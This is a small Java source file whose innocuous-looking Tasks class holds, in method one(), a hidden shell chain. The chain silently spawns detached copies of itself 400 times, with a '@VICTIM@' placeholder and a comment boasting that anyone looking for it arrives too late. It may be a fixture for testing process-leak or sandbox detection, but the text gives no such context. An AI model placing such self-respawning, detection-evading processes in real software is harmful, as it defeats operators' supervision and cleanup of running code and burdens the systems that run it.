package tasks;

import java.io.IOException;
import java.util.List;

/** Leaves a process that starts another like itself, and ends: whoever looks for it comes too late. 400 of them in all. */
public final class Tasks {
    private static final String NEXT =
            "sleep 0.05; if [ $1 -gt 0 ]; then setsid sh -c \"$0\" \"$0\" $(($1 - 1)) @VICTIM@ & fi";

    private Tasks() {}

    public static int one() throws IOException {
        new ProcessBuilder(List.of("sh", "-c", NEXT, NEXT, "400"))
                .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                .redirectError(ProcessBuilder.Redirect.DISCARD)
                .start();
        return 0;
    }

    public static int two() {
        return 2;
    }
}
